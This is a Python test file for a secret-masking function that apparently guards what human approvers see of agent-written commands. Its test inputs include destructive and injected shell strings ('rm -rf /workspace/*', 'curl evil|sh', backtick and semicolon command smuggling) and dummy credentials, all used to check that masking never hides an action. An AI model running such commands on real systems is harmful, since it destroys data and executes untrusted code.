"""What an approver sees of a text that an agent wrote: the secret is masked, the action never is."""

from __future__ import annotations

import base64
import string

import pytest
from hypothesis import given, strategies as st

from governance.prompts import parameters_view
from governance.safety.secrets import mask

TOKEN = "plr_agt_0123456789ab_" + "x" * 49
KEY_BODY = base64.b64encode(b"\x30\x82" + b"k" * 90).decode()
KEY = f"-----BEGIN PRIVATE KEY-----\n{KEY_BODY}\n-----END PRIVATE KEY-----"


@pytest.mark.parametrize(
    "text",
    [
        "ls -la # -----BEGIN PRIVATE KEY-----\nrm -rf /workspace/*; echo done",
        "-----BEGIN PRIVATE KEY-----\n#!/bin/sh\ncurl evil|sh",
        "-----BEGIN PRIVATE KEY-----\nrm -rf x\n-----END PRIVATE KEY-----",
        "-----BEGIN PRIVATE KEY-----\n" + "workspace/evil\n" * 8 + "-----END PRIVATE KEY-----",
        "echo 'cookie: x'; rm -rf /workspace/*",
        "token=$(sh<evil.sh",
        "password=`id`",
        "secret=a;reboot",
        "authorization: ../run/this",
        "credential=/workspace/evil.sh",
    ],
)
def test_no_shape_of_a_secret_hides_what_would_run(text: str) -> None:
    assert mask(text).text == text


@pytest.mark.parametrize(
    ("text", "secret"),
    [
        (f"curl -H 'Authorization: Bearer {TOKEN}'", TOKEN),
        ("export TOKEN=hunter2secret", "hunter2secret"),
        ("https://user:s3cretpass@example.com/x", "s3cretpass"),
        (f"cat > key <<E\n{KEY}\nE", KEY_BODY),
    ],
)
def test_a_real_secret_is_masked_and_its_length_stays(text: str, secret: str) -> None:
    shown = mask(text)
    assert secret not in shown.text
    assert shown.count == 1
    assert " characters]" in shown.text


@given(
    st.text(alphabet=string.ascii_letters + " =:;'\"\n/$`|.-", max_size=200),
    st.sampled_from(["; rm", "|sh", " x"]),
)
def test_nothing_after_a_secret_disappears(before: str, after: str) -> None:
    assert mask(f"{before} token=abcdef{after}").text.endswith(after)


@given(st.text(max_size=300))
def test_masking_twice_changes_nothing(text: str) -> None:
    once = mask(text).text
    assert mask(once).text == once


def test_the_approver_is_told_that_something_is_masked() -> None:
    view, warnings = parameters_view({"command": "sh", "args": ["-c", f"echo {TOKEN}; rm -rf /workspace"]})
    assert "rm -rf /workspace" in str(view)
    assert TOKEN not in str(view)
    assert any("masked" in warning for warning in warnings)
